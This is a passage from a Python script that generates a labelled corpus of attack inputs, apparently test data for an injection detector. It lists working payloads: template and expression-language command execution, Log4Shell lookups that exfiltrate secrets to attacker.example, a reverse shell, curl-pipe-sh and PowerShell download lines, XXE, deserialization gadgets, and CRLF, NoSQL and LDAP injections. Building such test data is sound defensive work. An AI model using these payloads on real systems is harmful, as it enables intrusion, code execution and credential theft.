    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-go-template-dump", "{{ printf \"%v\" . }}"),
    ("ssti-jinja2-encoded+urlencode", "%7B%7B%20self.__init__.__globals__.__builtins__.__import__(%27os%27).popen(%27id%27).read()%20%7D%7D"),
    ("el-java", "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"),
    ("el-deferred", "#{request.getClass().getClassLoader()}"),
    ("spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("spel-processbuilder", "${new java.lang.ProcessBuilder({'id'}).start()}"),
    ("ognl-struts", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl-content-type", "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"),
    ("mvel-expression", "@{Runtime.getRuntime().exec('id')}"),
    ("dfquery-local-var-import", "price > 0 and @pd.core.frame.com.builtins.__import__('os').system('id') == 0"),
    ("dfquery-python-engine", "df.query(\"@pd.io.common.os.system('id') == 0\", engine='python')"),
    ("python-eval-injection", "__import__('subprocess').getoutput('id')"),
    ("python-eval-builtins", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
    ("python-exec-compile", "exec(compile(\"import socket,os\\ns=socket.create_connection(('203.0.113.8',9001))\\nos.dup2(s.fileno(),0)\", 'x', 'exec'))"),
    ("node-eval", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("node-function-ctor", "Function('return process')().mainModule.require('child_process').execSync('id')"),
    ("php-eval", "phpinfo();system($_GET['c']);"),
    ("php-assert-string", "'.system('id').'"),
    ("ruby-eval", "Kernel.exec('id')"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell-chart-title", "Revenue ${jndi:rmi://203.0.113.50/obj}"),
    ("log4shell-nested-lower", "${${lower:j}${lower:n}d${lower:i}:ldap://attacker.example/x}"),
    ("log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/p}"),
    ("log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell-sys-exfil", "${jndi:ldap://${sys:user.name}.x.attacker.example/a}"),
    ("proto-pollution-json", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("proto-pollution-constructor", "{\"constructor\": {\"prototype\": {\"shell\": \"/proc/self/exe\", \"argv0\": \"console.log(require('child_process').execSync('id').toString())//\", \"NODE_OPTIONS\": \"--require /proc/self/cmdline\"}}}"),
    ("proto-pollution-query", "settings[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("csv-formula-cmd", "=cmd|' /C calc'!A0"),
    ("csv-formula-hyperlink", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Open chart\")"),
    ("csv-formula-dde-plus", "+cmd|'/c powershell IEX(wget attacker.example/p)'!A1"),
    ("csv-formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-formula-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A2),\"//a\")"),
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><dataset><name>&x;</name></dataset>"),
    ("xxe-oob-param", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><r/>"),
    ("xxe-ssrf-metadata", "<!DOCTYPE nb [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><notebook>&m;</notebook>"),
    ("xinclude", "<chart xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></chart>"),
    ("svg-xxe-upload", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///home/jovyan/.jupyter/jupyter_server_config.json\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&e;</text></svg>"),
    ("yaml-python-apply", "!!python/object/apply:os.system [\"curl attacker.example/y | sh\"]"),
    ("yaml-python-new", "config: !!python/object/new:subprocess.check_output [[\"id\"]]"),
    ("yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("pickle-protocol0", "cos\nsystem\n(S'id'\ntR."),
]
CODE_PREFIX = ["Chart title: ", "Report header: ", "## ", "email subject: ", "job name: ", "dataset label: "]
CODE_TPL = [
    ("ssti-jinja2", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("log4shell", "${jndi:ldap://attacker.example/nb}"),
    ("spel", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("freemarker", "<#assign e='freemarker.template.utility.Execute'?new()>${e('id')}"),
]

# ---------------------------------------------------------------- code: deserialization extras (hand-written, counted in code)
A["code"] += [
    ("pickle-base64-posix", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("java-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}"),
    ("java-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://203.0.113.60:1099/x\",\"autoCommit\":true}]"),
    ("java-xstream-eventhandler", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("dotnet-jsonnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("dotnet-xaml-objectdataprovider", "<ResourceDictionary xmlns=\"http://schemas.microsoft.com/winfx/2006/xaml/presentation\" xmlns:x=\"http://schemas.microsoft.com/winfx/2006/xaml\" xmlns:s=\"clr-namespace:System;assembly=mscorlib\" xmlns:d=\"clr-namespace:System.Diagnostics;assembly=system\"><ObjectDataProvider x:Key=\"p\" ObjectType=\"{x:Type d:Process}\" MethodName=\"Start\"><ObjectDataProvider.MethodParameters><s:String>cmd</s:String><s:String>/c whoami</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>"),
    ("php-serialized-object", "O:8:\"Exporter\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("php-phar-wrapper", "phar:///tmp/uploads/chart.jpg/test.txt"),
]

# ---------------------------------------------------------------- nosqli (24 literals + 3 templated)
A["nosqli"] = [
    ("json-ne-null", "{\"$ne\": null}"),
    ("json-gt-empty", "{\"$gt\": \"\"}"),
    ("json-regex-all", "{\"$regex\": \".*\"}"),
    ("json-regex-prefix-blind", "{\"$regex\": \"^adm\"}"),
    ("json-where-true", "{\"$where\": \"return true\"}"),
    ("json-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-string-breakout", "'; return true; var x='"),
    ("where-string-breakout-sleep", "nb1'; sleep(3000); var d='"),
    ("where-or-true", "' || '1'=='1"),
    ("where-this-password", "x' || this.password.match(/^a/) || 'a'=='b"),
    ("query-param-ne", "owner[$ne]=nobody"),
    ("query-param-gt", "password[$gt]="),
    ("query-param-regex", "username[$regex]=^admin&password[$ne]=x"),
    ("query-param-in", "role[$in][]=admin&role[$in][]=owner"),
    ("query-param-exists", "token[$exists]=true"),
    ("json-or-operator", "{\"$or\": [{\"shared\": true}, {\"owner\": {\"$ne\": \"me\"}}]}"),
    ("json-expr-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(4000); return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("json-accumulator", "{\"$accumulator\": {\"init\": \"function(){return db.getSiblingDB('admin')}\", \"lang\": \"js\"}}"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("mapreduce-js", "function() { emit(1, db.users.find().toArray()); }"),
    ("couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("notebook-filter-where", "tags: {\"$where\": \"this.owner != 'me'\"}"),
    ("query-param+urlencode", "owner%5B%24ne%5D=x"),
    ("unicode-escape-dollar", "{\"\\u0024ne\": 1}"),
]
NOSQL_PREFIX = ["notebook_id=", "filter: ", "shared_with: "]
NOSQL_TPL = [
    ("ne-null", "{\"$ne\": null}"),
    ("where-true", "{\"$where\": \"1==1\"}"),
]

# ---------------------------------------------------------------- crlf (27 literals + 3 templated)
A["crlf"] = [
    ("log-forge-newline", "nightly_etl\n2024-06-01T06:00:00Z INFO user=admin action=grant_role role=owner status=ok"),
    ("log-forge-crlf", "cohort_a\r\n[INFO] kernel 7 restarted by admin"),
    ("log-forge-urlencode", "run42%0d%0a2024-06-01 06:00:01 INFO login succeeded user=root"),
    ("log-forge-lf-only+urlencode", "job%0aERROR%20payment%20export%20completed%20for%20all%20users"),
    ("log-forge-unicode-line-sep", "job name\u2028[AUDIT] permissions changed to public by owner"),
    ("log-forge-ansi", "report\u001b[2K\u001b[1A\u001b[32mINFO all checks passed\u001b[0m"),
    ("header-set-cookie", "en-US%0d%0aSet-Cookie:%20session=attacker"),
    ("header-location-split", "/notebooks/1%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("header-literal-crlf", "download.csv\r\nSet-Cookie: nb_session=fixed123"),
    ("header-literal-split", "report.pdf\r\n\r\n<html><script>alert(document.cookie)</script>"),
    ("header-double-urlencode", "x%250d%250aSet-Cookie:%2520a=b"),
    ("header-unicode-truncation", "x%c4%8d%c4%8aSet-Cookie:%20a=b"),
    ("header-percent-u", "x%u000d%u000aX-Injected:%20yes"),
    ("header-unicode-escape", "x\\r\\nX-Forwarded-Host: attacker.example"),
    ("header-content-disposition", "chart.png\"\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(1)>"),
    ("header-redirect-param", "next=%0d%0aLocation:%20https://attacker.example/"),
    ("header-cors", "https://notebooks.example.com%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example"),
    ("header-host-cache-poison", "nb.example.com\r\nX-Forwarded-Host: attacker.example"),
    ("mail-bcc-literal", "Weekly KPIs\r\nBcc: victims@attacker.example"),
    ("mail-bcc-lf", "share notification\nBcc: list@attacker.example"),
    ("mail-to-urlencode", "Forecast%0ATo:%20cfo@attacker.example%0ASubject:%20Invoice"),
    ("mail-cc-in-from", "analyst@example.com\r\nCc: everyone@attacker.example"),
    ("mail-body-injection", "Q3 report\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/login>Re-authenticate</a>"),
    ("mail-smtp-dot", "hi\r\n.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<x@attacker.example>\r\nDATA"),
    ("smtp-header-subject-urlencode", "Digest%0d%0aReply-To:%20attacker%40attacker.example"),
    ("http-request-smuggle-field", "x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost"),
    ("csv-log-newline-injection", "Jane\n2024-06-01,admin,export_all_datasets,success"),
]
CRLF_PREFIX = ["notebook title: ", "filename=", "job: "]
CRLF_TPL = [
    ("set-cookie", "x\r\nSet-Cookie: sid=attacker"),
    ("bcc", "x\r\nBcc: all@attacker.example"),
    ("log-forge", "x\n[INFO] admin login ok"),
]

# ---------------------------------------------------------------- ldap-xpath (18 literals + 2 templated)
A["ldap-xpath"] = [
    ("ldap-wildcard-bypass", "*)(uid=*))(|(uid=*"),
    ("ldap-or-injection", "jdoe)(|(objectClass=*)"),
    ("ldap-admin-bypass", "admin)(&)"),
    ("ldap-password-wildcard", "*)(userPassword=*"),
    ("ldap-attr-blind", "jdoe)(description=a*"),
    ("ldap-group-enum", "*)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=internal"),
    ("ldap-null-byte", "admin)%00"),
    ("ldap-share-dialog", "share with: *)(mail=*@example.com)(|(cn=*"),
    ("ldap-urlencode", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("ldap-and-objectclass", "*)(&(objectClass=user)"),
    ("xpath-or-true", "' or '1'='1"),
    ("xpath-or-1", "x' or 1=1 or 'a'='a"),
    ("xpath-union-all-nodes", "']|//*|//*['"),
    ("xpath-count-blind", "' or count(/users/user)>3 or 'a'='b"),
    ("xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("xpath-string-length", "' or string-length(name(/*[1]))=5 or ''='"),
    ("xpath-doc-function", "' or doc('http://attacker.example/x.xml') or '"),
    ("xpath-double-quote", "\" or \"\"=\""),
]
LX_PREFIX = ["group: ", "user search: "]
LX_TPL = [
    ("ldap-wildcard", "*)(cn=*"),
    ("xpath-or", "' or ''='"),
]

TEMPLATED = [
    ("sqli", SQLI_PREFIX, SQLI_TPL, 8),
    ("xss", XSS_PREFIX, XSS_TPL, 8),
    ("cmdi", CMDI_PREFIX, CMDI_TPL, 8),
    ("traversal", TRAV_PREFIX, TRAV_TPL, 6),
    ("ssrf", SSRF_PREFIX, SSRF_TPL, 6),
    ("code", CODE_PREFIX, CODE_TPL, 0),
    ("nosqli", NOSQL_PREFIX, NOSQL_TPL, 3),
    ("crlf", CRLF_PREFIX, CRLF_TPL, 3),
    ("ldap-xpath", LX_PREFIX, LX_TPL, 2),
]


def encode(v):
    return urllib.parse.quote(v, safe="")


def build():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    n = 0

    def add(cat, cls, value):
        nonlocal n
        assert value and value not in seen, (cat, value)
        seen.add(value)
        n += 1
        rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls, "label": "attack", "value": value})

    for cat, prefixes, payloads, count in TEMPLATED:
        for cls, value in A[cat]:
            add(cat, cls, value)
        made = 0
        guard = 0
        while made < count:
            guard += 1
            assert guard < 10000
            pfx = rng.choice(prefixes)
            pcls, payload = rng.choice(payloads)
            value = pfx + payload
            cls = "prefixed-" + pcls
            # every third templated row gets one URL encoding
            if made % 3 == 2:
                value = encode(value)
                cls += "+urlencode"
            if value in seen:
                continue
            add(cat, cls, value)
            made += 1
    return rows


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    out = os.path.join(here, "attacks.jsonl")
    rows = build()
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    print("wrote %d rows to %s" % (len(rows), out))


if __name__ == "__main__":
    main()
